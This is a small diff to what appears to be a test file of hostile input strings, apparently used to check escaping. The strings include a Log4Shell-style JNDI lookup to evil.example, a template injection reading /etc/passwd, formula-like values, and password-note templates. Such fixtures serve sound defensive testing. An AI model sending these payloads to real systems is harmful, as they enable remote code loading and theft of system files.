@@ -66,10 +66,11 @@ HOSTILE = (
     "+49 30 1234",
     "-2+3",
     "  leading spaces",
-    "O'Brien \"quoted\", comma; semicolon",
+    'O\'Brien "quoted", comma; semicolon',
     "患者管理-本番",
     "خادم-المستشفى",
     "Übergabe größe",
     "%s {0} ${jndi:ldap://evil.example/a}",
-    "#read(\"/etc/passwd\") *bold* $x$",
+    '#read("/etc/passwd") *bold* $x$',
 )
+SECRET_NOTES = ("pw: {}", "root password={}", "svc account, pwd: {}", "Passwort: {}")
